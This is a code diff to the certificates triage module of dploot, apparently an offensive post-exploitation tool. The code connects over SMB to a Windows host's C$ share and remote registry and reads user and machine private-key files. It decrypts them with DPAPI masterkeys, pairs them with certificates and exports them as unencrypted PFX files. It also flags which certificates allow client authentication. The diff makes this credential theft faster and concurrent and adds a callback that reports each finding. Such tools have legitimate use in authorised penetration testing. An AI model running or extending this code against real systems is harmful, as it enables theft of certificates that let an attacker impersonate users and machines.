@@ -1,12 +1,8 @@
-import hashlib
 import logging
 import ntpath
 import os
-from typing import Dict, List, Tuple
-from dataclasses import dataclass
+from typing import Callable, Dict, List, Set, Tuple
 
-from impacket.dcerpc.v5 import rrp
-from impacket.system_errors import ERROR_NO_MORE_ITEMS
 from impacket.winregistry import Registry
 
 from Cryptodome.PublicKey import RSA
@@ -14,28 +10,39 @@ from cryptography import x509
 from cryptography.hazmat._oid import ExtensionOID
 from cryptography.hazmat.primitives.asymmetric import rsa
 from cryptography.hazmat.primitives.asymmetric.types import PrivateKeyTypes
-from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, pkcs12, PublicFormat, load_der_private_key
+from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, pkcs12
 from pyasn1.codec.der import decoder
 from pyasn1.type.char import UTF8String
 
-from dploot.lib.crypto import CERTBLOB
+from dploot.lib.crypto import CERTBLOB, pvk_public_modulus
 from dploot.lib.dpapi import decrypt_privatekey, find_masterkey_for_privatekey_blob
 from dploot.lib.smb import DPLootSMBConnection
+from dploot.lib.stats import instrument, stats
 from dploot.lib.target import Target
 from dploot.lib.utils import is_certificate_guid
 from dploot.triage.masterkeys import Masterkey
 
 PRINCIPAL_NAME = x509.ObjectIdentifier("1.3.6.1.4.1.311.20.2.3")
 
-@dataclass
 class Certificate:
-    winuser: str
-    cert: x509.Certificate
-    pkey: PrivateKeyTypes
-    pfx: bytes
-    username: str
-    filename: str
-    clientauth: bool
+    ''' A certificate and its private key. The PFX is only built when read, to export it '''
+
+    __slots__ = ('winuser', 'cert', 'pkey', '_pfx', 'username', 'filename', 'clientauth')
+
+    def __init__(self, winuser: str, cert: x509.Certificate, pkey: PrivateKeyTypes, pfx: bytes = None, username: str = None, filename: str = None, clientauth: bool = False) -> None:
+        self.winuser = winuser
+        self.cert = cert
+        self.pkey = pkey
+        self._pfx = pfx
+        self.username = username
+        self.filename = filename
+        self.clientauth = clientauth
+
+    @property
+    def pfx(self) -> bytes:
+        if self._pfx is None:
+            self._pfx = create_pfx(key=self.pkey, cert=self.cert)
+        return self._pfx
 
     def dump(self) -> None:
         print('Issuer:\t\t\t%s' % str(self.cert.issuer.rfc4514_string()))
@@ -53,6 +60,35 @@ class Certificate:
         print((self.cert.public_bytes(Encoding.PEM).decode('utf-8')))
         print()
 
+def create_pfx(key: rsa.RSAPrivateKey, cert: x509.Certificate) -> bytes:
+    return pkcs12.serialize_key_and_certificates(
+        name=b"",
+        key=key,
+        cert=cert,
+        cas=None,
+        encryption_algorithm=NoEncryption(),
+    )
+
+def rsakey_to_private_key(key: RSA.RsaKey) -> rsa.RSAPrivateKey:
+    ''' Converts a decrypted private key to a cryptography key, without exporting it nor checking it again '''
+    private_numbers = rsa.RSAPrivateNumbers(
+        p=int(key.p),
+        q=int(key.q),
+        d=int(key.d),
+        dmp1=rsa.rsa_crt_dmp1(int(key.d), int(key.p)),
+        dmq1=rsa.rsa_crt_dmq1(int(key.d), int(key.q)),
+        iqmp=rsa.rsa_crt_iqmp(int(key.p), int(key.q)),
+        public_numbers=rsa.RSAPublicNumbers(int(key.e), int(key.n)),
+    )
+    return private_numbers.private_key(unsafe_skip_rsa_key_validation=True)
+
+def public_modulus(cert: x509.Certificate) -> "int | None":
+    ''' Returns the modulus of the public key of cert, None if it is not an RSA key '''
+    public_key = cert.public_key()
+    if isinstance(public_key, rsa.RSAPublicKey):
+        return public_key.public_numbers().n
+    return None
+
 class CertificatesTriage:
 
     false_positive = ['.','..', 'desktop.ini','Public','Default','Default User','All Users']
@@ -66,24 +102,32 @@ class CertificatesTriage:
         "Windows\\ServiceProfiles\\LocalService\\AppData\\Roaming\\Microsoft\\Crypto\\Keys",
     ]
     user_capi_keys_generic_path = [
-        'Users\\%s\\AppData\\Roaming\\Microsoft\\Crypto\\RSA',
+        '%s\\AppData\\Roaming\\Microsoft\\Crypto\\RSA',
     ]
     user_cng_keys_generic_path = [
-        'Users\\%s\\AppData\\Roaming\\Microsoft\\Crypto\\Keys',
+        '%s\\AppData\\Roaming\\Microsoft\\Crypto\\Keys',
     ]
     user_mycertificates_generic_path = [
-        'Users\\%s\\AppData\\Roaming\\Microsoft\\SystemCertificates\\My\\Certificates'
+        '%s\\AppData\\Roaming\\Microsoft\\SystemCertificates\\My\\Certificates'
     ]
     share = 'C$'
 
-    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey]) -> None:
+    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey], per_finding_callback: Callable[[Certificate], None] = None) -> None:
         self.target = target
         self.conn = conn
         
         self._users = None
         self.looted_files = dict()
         self.masterkeys = masterkeys
+        self.per_finding_callback = per_finding_callback
+
+    def found(self, certificate: Certificate) -> Certificate:
+        ''' Hands certificate to per_finding_callback as soon as its private key is found, before the triage returns '''
+        if self.per_finding_callback is not None:
+            self.per_finding_callback(certificate)
+        return certificate
 
+    @instrument()
     def triage_system_certificates(self) -> List[Certificate]:
         logging.getLogger("impacket").disabled = True
         if self.conn.local_session:
@@ -91,15 +135,15 @@ class CertificatesTriage:
         else:
             self.conn.enable_remoteops()
         certificates = []
-        pkeys = self.loot_privatekeys()
         certs = self.loot_system_certificates()
+        moduli = self.index_certificates(certs)
+        pkeys = self.loot_privatekeys(moduli=moduli)
         if len(pkeys) > 0 and len(certs) > 0:
-            certificates = self.correlate_certificates_and_privatekeys(certs=certs, private_keys=pkeys, winuser='SYSTEM')
+            certificates = self.correlate_certificates_and_privatekeys(certs=certs, private_keys=pkeys, winuser='SYSTEM', moduli=moduli)
         return certificates
 
     def loot_system_certificates(self) -> Dict[str,x509.Certificate]:
         my_certificates_key = 'SOFTWARE\\Microsoft\\SystemCertificates\\MY\\Certificates'
-        certificate_keys = []
         certificates = {}
         if self.conn.local_session :
             # open hive
@@ -125,38 +169,24 @@ class CertificatesTriage:
                 certificates[certificate_key] = cert
             reg.close()
         else:
-            ans = rrp.hOpenLocalMachine(self.conn.remote_ops._RemoteOperations__rrp)
-            regHandle = ans['phKey']
-
-            ans = rrp.hBaseRegOpenKey(self.conn.remote_ops._RemoteOperations__rrp, regHandle, my_certificates_key, samDesired=rrp.KEY_ENUMERATE_SUB_KEYS)
-            keyHandle = ans['phkResult']
-            i = 0
-            while True:
-                try:
-                    enum_ans = rrp.hBaseRegEnumKey(self.conn.remote_ops._RemoteOperations__rrp, keyHandle, i)
-                    certificate_keys.append(enum_ans['lpNameOut'][:-1])
-                    i += 1
-                except rrp.DCERPCSessionError as e:
-                    if e.get_error_code() == ERROR_NO_MORE_ITEMS:
-                        break
-                except Exception as e:
-                    import traceback
-                    traceback.print_exc()
-                    logging.error(str(e))
-            rrp.hBaseRegCloseKey(self.conn.remote_ops._RemoteOperations__rrp, keyHandle)
-
-            for certificate_key in certificate_keys:
+            try:
+                registry = self.conn.remote_registry
+            except Exception as e:
+                logging.error(str(e))
+                return certificates
+            for certificate_key in registry.enum_keys('HKLM', my_certificates_key):
                 try:
                     regKey = my_certificates_key + '\\' + certificate_key
-                    ans = rrp.hBaseRegOpenKey(self.conn.remote_ops._RemoteOperations__rrp, regHandle, regKey)
-                    keyHandle = ans['phkResult']
-                    _, certblob_bytes = rrp.hBaseRegQueryValue(self.conn.remote_ops._RemoteOperations__rrp, keyHandle, 'Blob')
+                    value = registry.query_value('HKLM', regKey, 'Blob')
+                    registry.close_key('HKLM', regKey)
+                    if value is None:
+                        continue
+                    _, certblob_bytes = value
                     logging.debug("Found Certificates Blob: \\\\%s\\%s" %  (self.target.address,regKey))
                     certblob = CERTBLOB(certblob_bytes)
                     if certblob.der is not None:
                         cert = self.der_to_cert(certblob.der)
                         certificates[certificate_key] = cert
-                    rrp.hBaseRegCloseKey(self.conn.remote_ops._RemoteOperations__rrp, keyHandle)
                 except Exception as e:
                     if logging.getLogger().level == logging.DEBUG:
                         import traceback
@@ -164,55 +194,82 @@ class CertificatesTriage:
                         logging.debug(str(e))
         return certificates
 
+    @instrument()
     def triage_certificates(self) -> List[Certificate]:
         certificates = []
-        for user in self.users:
-            try:
-                certificates += self.triage_certificates_for_user(user=user)                         
-            except Exception as e:
-                if logging.getLogger().level == logging.DEBUG:
-                    import traceback
-                    traceback.print_exc()
-                    logging.debug(str(e))
-                pass
+        for user_certificates in self.conn.map(self.triage_certificates_for_user, self.users):
+            certificates += user_certificates
         return certificates
 
+    @instrument()
     def triage_certificates_for_user(self, user: str) -> List[Certificate]:
         certificates = []
-        pkeys = self.loot_privatekeys(privatekeys_paths=[elem % user for elem in self.user_capi_keys_generic_path])                         
-        certs = self.loot_certificates(certificates_paths=[elem % user for elem in self.user_mycertificates_generic_path])
+        profile_path = self.conn.user_profile_path(user)
+        certs = self.loot_certificates(certificates_paths=[elem % profile_path for elem in self.user_mycertificates_generic_path])
+        moduli = self.index_certificates(certs)
+        pkeys = self.loot_privatekeys(privatekeys_paths=[elem % profile_path for elem in self.user_capi_keys_generic_path], moduli=moduli)
         if len(pkeys) > 0 and len(certs) > 0:
-            certificates = self.correlate_certificates_and_privatekeys(certs=certs, private_keys=pkeys, winuser=user)
+            certificates = self.correlate_certificates_and_privatekeys(certs=certs, private_keys=pkeys, winuser=user, moduli=moduli)
         return certificates
         
 
-    def loot_privatekeys(self, privatekeys_paths: List[str] = system_capi_keys_generic_path) -> Dict[str, Tuple[str,RSA.RsaKey]]:
-        pkeys = {}
+    def index_certificates(self, certs: Dict[str, x509.Certificate]) -> Dict[str, int]:
+        ''' Returns the modulus of the public key of each RSA certificate, computed once '''
+        moduli = dict()
+        for name, cert in certs.items():
+            modulus = public_modulus(cert)
+            if modulus is not None:
+                moduli[name] = modulus
+        return moduli
+
+    def loot_privatekeys(self, privatekeys_paths: List[str] = system_capi_keys_generic_path, moduli: Dict[str, int] = None) -> Dict[int, Tuple[str,RSA.RsaKey]]:
+        ''' Reads the private keys files and decrypts the keys, indexed by their modulus
+
+        With moduli, only the keys of these certificates are decrypted: the public key is stored in clear
+        in the key files, hosts such as IIS or ADCS servers have thousands of keys without certificates.
+        Files are read and keys decrypted concurrently on the sessions of the connection.
+        '''
+        sid_paths = list()
         pkeys_dirs = self.conn.listDirs(self.share, privatekeys_paths)
         for pkeys_path,pkeys_dir in pkeys_dirs.items():
             if pkeys_dir is not None:
                 for d in pkeys_dir:
                     if d not in self.false_positive and d.is_directory()>0 and (d.get_longname()[:2] == 'S-' or d.get_longname() == 'MachineKeys'):
-                        sid = d.get_longname()
-                        pkeys_sid_path = ntpath.join(pkeys_path,sid)
-                        pkeys_sid_dir = self.conn.remote_list_dir(self.share, path=pkeys_sid_path)
-                        for file in pkeys_sid_dir:
-                            if file.is_directory() == 0 and is_certificate_guid(file.get_longname()):
-                                pkey_guid = file.get_longname()
-                                filepath = ntpath.join(pkeys_sid_path,pkey_guid)
-                                logging.debug("Found PrivateKey Blob: \\\\%s\\%s\\%s" %  (self.target.address,self.share,filepath))
-                                pkey_bytes = self.conn.readFile(self.share, filepath)
-                                if pkey_bytes is not None and self.masterkeys is not None:
-                                    self.looted_files[pkey_guid] = pkey_bytes
-                                    try:
-                                        masterkey = find_masterkey_for_privatekey_blob(pkey_bytes, masterkeys=self.masterkeys)
-                                        if masterkey is not None:
-                                            pkey = decrypt_privatekey(privatekey_bytes=pkey_bytes, masterkey=masterkey)
-                                            pkeys[hashlib.md5(pkey.public_key().export_key('DER')).hexdigest()] = (pkey_guid,pkey)
-                                    except Exception as e:
-                                        logging.debug(f'Exception encountered in {__name__}: {e}.')
+                        sid_paths.append(ntpath.join(pkeys_path,d.get_longname()))
+
+        def list_sid_dir(pkeys_sid_path: str) -> List[Tuple[str, str]]:
+            files = list()
+            for file in self.conn.remote_list_dir(self.share, path=pkeys_sid_path) or []:
+                if file.is_directory() == 0 and is_certificate_guid(file.get_longname()):
+                    files.append((file.get_longname(), ntpath.join(pkeys_sid_path,file.get_longname())))
+            return files
+
+        pkeys_files = [file for files in self.conn.map(list_sid_dir, sid_paths) for file in files]
+        wanted = set(moduli.values()) if moduli is not None else None
+        pkeys = {}
+        for pkey_guid, pkey in self.conn.map(lambda file: self.loot_privatekey(*file, wanted=wanted), pkeys_files):
+            pkeys[int(pkey.n)] = (pkey_guid, pkey)
         return pkeys
 
+    def loot_privatekey(self, pkey_guid: str, filepath: str, wanted: "Set[int] | None" = None) -> "Tuple[str, RSA.RsaKey] | None":
+        logging.debug("Found PrivateKey Blob: \\\\%s\\%s\\%s" %  (self.target.address,self.share,filepath))
+        pkey_bytes = self.conn.readFile(self.share, filepath)
+        if pkey_bytes is None or self.masterkeys is None:
+            return None
+        self.looted_files[pkey_guid] = pkey_bytes
+        try:
+            if wanted is not None:
+                modulus = pvk_public_modulus(pkey_bytes)
+                if modulus is not None and modulus not in wanted:
+                    stats.incr('certificates.privatekeys_skipped')
+                    return None
+            masterkey = find_masterkey_for_privatekey_blob(pkey_bytes, masterkeys=self.masterkeys)
+            if masterkey is not None:
+                return pkey_guid, decrypt_privatekey(privatekey_bytes=pkey_bytes, masterkey=masterkey)
+        except Exception as e:
+            logging.debug(f'Exception encountered in {__name__}: {e}.')
+        return None
+
     def loot_certificates(self, certificates_paths: List[str]) -> Dict[str, x509.Certificate]:
         certificates = {}
         certificates_dir = self.conn.listDirs(self.share, certificates_paths)
@@ -234,15 +291,16 @@ class CertificatesTriage:
                             pass
         return certificates
 
-    def correlate_certificates_and_privatekeys(self, certs: Dict[str, x509.Certificate], private_keys: Dict[str, Tuple[str,RSA.RsaKey]], winuser: str) -> List[Certificate]:
+    def correlate_certificates_and_privatekeys(self, certs: Dict[str, x509.Certificate], private_keys: Dict[int, Tuple[str,RSA.RsaKey]], winuser: str, moduli: Dict[str, int] = None) -> List[Certificate]:
         certificates = []
+        if moduli is None:
+            moduli = self.index_certificates(certs)
         for name, cert in certs.items():
-            if hashlib.md5(cert.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)).hexdigest() in private_keys.keys():
+            if moduli.get(name) in private_keys:
                 # Matching public and private key
-                pkey = private_keys[hashlib.md5(cert.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)).hexdigest()]
+                pkey = private_keys[moduli[name]]
                 logging.debug("Found match between %s certificate and %s private key !" % (name, pkey[0]))
-                key = load_der_private_key(pkey[1].export_key('DER'), password=None)
-                pfx = self.create_pfx(key=key,cert=cert)
+                key = rsakey_to_private_key(pkey[1])
                 # TODO CAN BE NULL self.get_id_from_certificate(certificate=cert)[1]
                 username = self.get_id_from_certificate(certificate=cert)[1].replace('@','_')
                 clientauth = False
@@ -256,20 +314,14 @@ class CertificatesTriage:
                         clientauth = True
                         break
 
-                certificates.append(Certificate(winuser=winuser, cert=cert, pkey=key, pfx=pfx, username=username, filename=name, clientauth=clientauth))
+                certificates.append(self.found(Certificate(winuser=winuser, cert=cert, pkey=key, username=username, filename=name, clientauth=clientauth)))
         return certificates
 
     def der_to_cert(self,certificate: bytes) -> x509.Certificate:
         return x509.load_der_x509_certificate(certificate)
 
     def create_pfx(self, key: rsa.RSAPrivateKey, cert: x509.Certificate) -> bytes:
-        return pkcs12.serialize_key_and_certificates(
-            name=b"",
-            key=key,
-            cert=cert,
-            cas=None,
-            encryption_algorithm=NoEncryption(),
-        )
+        return create_pfx(key=key, cert=cert)
 
     def get_id_from_certificate(self,certificate: x509.Certificate) -> Tuple[str, str]:
         try:
@@ -295,15 +347,7 @@ class CertificatesTriage:
     def users(self) -> List[str]:
         if self._users is not None:
             return self._users
-        
-        users = list()
-
-        users_dir_path = 'Users\\*'
-        directories = self.conn.listPath(shareName=self.share, path=ntpath.normpath(users_dir_path))
-        for d in directories:
-            if d.get_longname() not in self.false_positive and d.is_directory() > 0:
-                users.append(d.get_longname())
-    
-        self._users = users
+
+        self._users = [profile.username for profile in self.conn.list_user_profiles()]
 
         return self._users
\ No newline at end of file